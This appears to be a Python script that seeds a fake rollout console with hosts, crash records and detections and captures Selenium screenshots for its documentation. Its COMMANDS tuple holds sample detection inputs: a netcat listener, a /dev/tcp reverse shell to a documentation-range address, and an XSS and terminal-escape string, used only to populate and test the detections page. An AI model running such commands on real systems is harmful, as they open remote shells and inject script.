"""The pictures of docs/console.md: `python -m tests.process.console_pictures docs/images`.

A console on a store that tells a story, and Debian's chromium that looks at it.
"""

import base64
import os
import sys
import tempfile
import time
from contextlib import closing
from dataclasses import replace
from pathlib import Path

from selenium.webdriver import Chrome
from selenium.webdriver.common.by import By

from cloud.folder import ServingNote, announce, sole_server
from cloud.rollout import engine
from cloud.rollout.gates import Outcome, Verdict
from cloud.rollout.plan import STAGED
from cloud.rollout.policy import ContentUpdatePolicy, Ring
from cloud.rollout.table import State
from cloud.store import policies, rollouts
from cloud.store.audit import ENGINE
from tests.process.console_browser import NARROW, WIDE, darken, go, new_browser, resize
from tests.process.console_process import Console, new_console
from tests.process.waiting import until

MINUTE = 60
NANOSECONDS = 1_000_000_000
FIRST = 4
"""Hosts that have the newest version already."""
SEEN = (
    Verdict("reach", Outcome.PASSED, "4 of 4 hosts, 0 platforms missing", "at least 2 hosts"),
    Verdict("bake_time", Outcome.OPEN, "1140 s", "at least 1800 s"),
    Verdict("evaluations/pipe-to-shell", Outcome.PASSED, "18213", "at least 10000"),
    Verdict("evaluations/shared-memory-name", Outcome.OPEN, "7310", "at least 10000"),
    Verdict("died", Outcome.PASSED, "0 of 4 hosts", "at most 1, and no majority"),
    Verdict("blamed", Outcome.PASSED, "0 of 4 hosts", "at most 1, and no majority"),
    Verdict("given_up", Outcome.PASSED, "0 of 4 hosts", "at most 1, and no majority"),
    Verdict("silent", Outcome.PASSED, "0 of 4 hosts", "at most 2, and no majority"),
)
BLAMED = (
    Verdict("bake_time", Outcome.OPEN, "12 s", "at least 900 s"),
    Verdict("died", Outcome.FAILED, "2 of 2 hosts", "at most 1, and no majority"),
    Verdict("blamed", Outcome.FAILED, "2 of 2 hosts", "at most 1, and no majority"),
)
COMMANDS = (
    b"/usr/bin/nc -l -p 4444",
    b"/bin/sh -i >& /dev/tcp/198.51.100.7/9001",
    b"/tmp/<script>alert(1)</script>\x1b[31m",
)


def main() -> None:
    """Write the pictures to the folder."""
    (output,) = map(Path, sys.argv[1:])
    with (
        tempfile.TemporaryDirectory() as folder,
        new_console(Path(folder), STAGED, stream_look_seconds=0.05) as console,
        sole_server(console.cloud),
        new_browser(console, Path(folder) / "profile") as browser,
    ):
        announce(console.cloud, ServingNote("127.0.0.1:7443", os.getpid(), unsafe=False))
        halted, under_way = _tell(console)
        _fleet(console, browser, output)
        for name, path in (("halted", halted), ("rollout", under_way)):
            go(browser, console, path)
            _picture(browser, output / f"console-{name}.png")
        resize(browser, NARROW)
        _picture(browser, output / "console-narrow.png")
        resize(browser, WIDE)
        darken(browser, dark=True)
        go(browser, console, "/crashes")
        _picture(browser, output / "console-dark.png")
        darken(browser, dark=False)
        go(browser, console, "/detections")
        until(lambda: browser.find_element(By.ID, "live").text == "live")
        console.detect(COMMANDS[-1], 99, "edge-1")
        until(lambda: "alert" in browser.find_element(By.TAG_NAME, "tbody").text)
        _picture(browser, output / "console-detections.png")


def _fleet(console: Console, browser: Chrome, output: Path) -> None:
    go(browser, console, "/")
    _picture(browser, output / "console-fleet.png")


def _tell(console: Console) -> tuple[str, str]:
    """Hosts, a rollout that was halted and one that is under way; the paths of both."""
    names = [f"{kind}-{number}" for kind in ("web", "db", "edge") for number in range(1, 5)]
    for index, name in enumerate(names):
        console.meet(name, reduced=index == len(names) - 1, active=292 if index < FIRST else 290)
    with closing(console.cloud.open()) as database, database.writing() as store:
        for name in names[:2]:
            policies.set_group(store, name, "laboratory", "ada", _ago(200))
        policy = ContentUpdatePolicy(ring=Ring.INTERNAL)
        policies.set_policy(store, "laboratory", 0, policy, "ada", _ago(199))
    bad = console.push(291, _ago(190))
    for number, name in enumerate(("web-1", "web-1", "web-2", "web-2")):
        action = "EVENT_SET_ASIDE" if number % 2 == 0 else "QUARANTINED"
        at = _ago(189) + number * 9 * NANOSECONDS
        console.crash(bad, number, name, at, action=action, suspect_instance_id="pipe-21")
    for name in ("web-1", "web-2"):
        console.quarantine(name, bad, "SIGNAL 11, twice")
    _halt(console, bad)
    console.crash(b"", 50, "db-3", _ago(171), action="RESTARTED", suspect_instance_id="")
    good = console.push(292, _ago(38))
    _advance(console, good)
    for number, command in enumerate(COMMANDS):
        console.detect(command, number + 10, names[number])
    return f"/rollouts/{bad.hex()}", f"/rollouts/{good.hex()}"


def _halt(console: Console, name: bytes) -> None:
    with closing(console.cloud.open()) as database, database.writing() as store:
        stored = rollouts.find(store, name)
        assert stored is not None
        seen = replace(stored.rollout, verdicts=BLAMED, baked=12.0)
        after = engine.halt(seen, "blamed: 2 of 2 hosts, expected at most 1", 0)
        after = replace(after, baked=12.0)
        rollouts.change(store, stored, after, ENGINE, "halt", _ago(188))


def _advance(console: Console, name: bytes) -> None:
    with closing(console.cloud.open()) as database, database.writing() as store:
        stored = rollouts.find(store, name)
        assert stored is not None
        after = replace(stored.rollout, state=State.CANARY, verdicts=SEEN, baked=1140.0)
        rollouts.change(store, stored, after, ENGINE, "advance", _ago(22))
        rollouts.add_seats(store, name, ["web-1", "web-2", "db-1", "edge-1"])


def _ago(minutes: int) -> int:
    return time.time_ns() - minutes * MINUTE * NANOSECONDS


def _picture(browser: Chrome, path: Path) -> None:
    """What is on the screen."""
    shot = browser.execute_cdp_cmd("Page.captureScreenshot", {"format": "png"})
    path.write_bytes(base64.b64decode(shot["data"]))


if __name__ == "__main__":
    main()
